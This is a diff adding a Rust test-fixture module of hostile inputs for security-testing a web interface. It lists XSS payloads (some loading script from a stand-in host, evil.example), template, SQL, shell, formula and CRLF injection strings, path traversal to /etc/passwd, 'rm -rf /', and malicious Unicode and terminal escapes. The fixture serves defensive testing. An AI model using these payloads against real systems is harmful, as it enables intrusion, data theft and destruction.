@@ -1,0 +1,90 @@
+//! Texts that have done harm elsewhere, and bytes that are no text.
+
+/// Texts that have done harm elsewhere. Whatever of it were to run says so in `window.ran`.
+const TEXTS: &[&str] = &[
+    "<script>window.ran=1</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "\"><script>window.ran=1</script>",
+    "'><script>window.ran=1</script>",
+    "</title><script>window.ran=1</script>",
+    "</textarea><script>window.ran=1</script>",
+    "</script><script>window.ran=1</script>",
+    "<img src=x onerror=window.ran=1>",
+    "<img src=\"x\" onerror=\"window.ran=1\">",
+    "\" onmouseover=\"window.ran=1\" x=\"",
+    "' autofocus onfocus='window.ran=1",
+    "<svg onload=window.ran=1>",
+    "<svg><script>window.ran=1</script></svg>",
+    "</svg><script>window.ran=1</script>",
+    "</text><a href=\"javascript:window.ran=1\">x</a>",
+    "<math><mtext></mtext><script>window.ran=1</script></math>",
+    "<iframe srcdoc=\"<script>parent.ran=1</script>\">",
+    "<object data=\"data:text/html,<script>window.ran=1</script>\">",
+    "<embed src=javascript:window.ran=1>",
+    "<details open ontoggle=window.ran=1>",
+    "<video><source onerror=window.ran=1></video>",
+    "<audio src=x onerror=window.ran=1>",
+    "<input autofocus onfocus=window.ran=1>",
+    "<select autofocus onfocus=window.ran=1>",
+    "<marquee onstart=window.ran=1>",
+    "<body onload=window.ran=1>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<form action=//evil.example><button autofocus>",
+    "<a href=javascript:window.ran=1 hx-boost=true>x</a>",
+    "<div hx-get=/logout hx-trigger=load></div>",
+    "<div hx-on:load=\"window.ran=1\"></div>",
+    "<template><script>window.ran=1</script></template>",
+    "<!--><script>window.ran=1</script>-->",
+    "<![CDATA[<script>window.ran=1</script>]]>",
+    "]]><script>window.ran=1</script>",
+    "&lt;script&gt;window.ran=1&lt;/script&gt;",
+    "&#60;script&#62;window.ran=1",
+    "\\u003cscript\\u003ewindow.ran=1",
+    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
+    "＜script＞window.ran=1＜/script＞",
+    "+ADw-script+AD4-window.ran=1",
+    "{{constructor.constructor('window.ran=1')()}}",
+    "${window.ran=1}",
+    "#{7*7}{{7*7}}",
+    "javascript:window.ran=1",
+    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
+    "'-(window.ran=1)-'",
+    "`;window.ran=1;`",
+    "{\"kind\":\"ringing\",\"entry\":\"x\"}",
+    "__proto__[ran]=1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)*cmd",
+    "%0d%0aSet-Cookie: x=1",
+    "%0d%0a2026-10-03T00:00:00Z ERROR forged: line is down",
+    "../../../../etc/passwd",
+    "..\\..\\windows\\system32",
+    "; rm -rf / #",
+    "$(touch owned)`id`",
+    "'; DROP TABLE call; --",
+    "%s%n%x%p",
+    "\u{202e}gnp.exe\u{202d}",
+    "\u{2066}evil\u{2069}\u{200f}\u{200b}",
+    "\u{61c}مرحبا\u{2028}next\u{2029}",
+    "Z̸͑͝a̷l̶g̴o̷\u{300}\u{301}\u{302}\u{303}",
+    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
+    "\u{85}\u{9b}31mC1",
+    "\u{1b}[2J\u{1b}[31m\u{1b}]0;owned\u{7}",
+    "\u{8}\u{8}\u{8}\tback",
+];
+
+pub(super) fn payloads() -> Vec<Vec<u8>> {
+    let mut all: Vec<Vec<u8>> = TEXTS.iter().map(|text| text.as_bytes().to_vec()).collect();
+    all.push("长".repeat(200).into_bytes());
+    all.push(vec![b'A'; 2000]);
+    all.push(b"\xb5\xf7\xb6\xc8\xd6\xd0\xd0\xc4<script>window.ran=1</script>".to_vec());
+    all.push(b"\x81\x5c\x81\x22<script>window.ran=1</script>".to_vec());
+    all.push(b"\xc0\xbcscript\xc0\xbewindow.ran=1".to_vec());
+    all.push(b"\xff\xfe<\0s\0c\0r\0".to_vec());
+    all.push(b"nul\0<script>window.ran=1</script>".to_vec());
+    all
+}
